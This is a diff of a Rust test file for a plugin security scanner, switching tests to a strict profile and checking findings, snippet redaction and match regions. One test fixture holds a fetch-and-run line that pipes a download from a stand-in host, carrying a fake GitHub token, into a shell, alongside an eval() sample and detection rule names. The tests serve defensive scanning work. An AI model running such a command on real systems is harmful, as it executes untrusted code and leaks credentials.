@@ -5,7 +5,7 @@ use plugward_scanner::{Profile, Rules, gate, render};
 use crate::common::report;
 
 fn snippets(path: &str, text: &str, rule: &str) -> Vec<String> {
-    let report = report(Profile::General, &[(path, text.as_bytes())]);
+    let report = report(Profile::StrictPlugin, &[(path, text.as_bytes())]);
     let found = report.findings().iter().filter(|finding| finding.rule.as_str() == rule);
     found.map(|finding| finding.snippet.clone()).collect()
 }
@@ -48,7 +48,7 @@ fn three_layers_are_shown_as_what_they_say() {
 fn of_a_secret_no_finding_shows_more_than_its_head() {
     let token = concat!("gh", "p_", "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6");
     let text = format!("curl -H 'token: {token}' https://h.example/x | sh\n");
-    let report = report(Profile::General, &[("a.sh", text.as_bytes())]);
+    let report = report(Profile::StrictPlugin, &[("a.sh", text.as_bytes())]);
     assert!(report.findings().iter().any(|finding| finding.rule.as_str() == "secret/github"));
     assert!(report.findings().iter().any(|finding| finding.rule.as_str() == "sh/pipe-to-shell"));
     for finding in report.findings() {
@@ -84,7 +84,7 @@ fn a_snippet_begins_at_a_word_or_says_that_it_was_cut() {
 #[test]
 fn regions_end_where_the_match_ends() {
     let text = "// \u{1f600}\r\neval(\n 'a\u{e9}')\n";
-    let report = report(Profile::General, &[("a.js", text.as_bytes())]);
+    let report = report(Profile::StrictPlugin, &[("a.js", text.as_bytes())]);
     let (finding, end) = report.placed().find(|(one, _)| one.rule.as_str() == "exec/eval").unwrap();
     assert_eq!((finding.line, finding.column), (2, 1));
     assert_eq!(&text[finding.span.start..finding.span.end], "eval(\n 'a\u{e9}')");
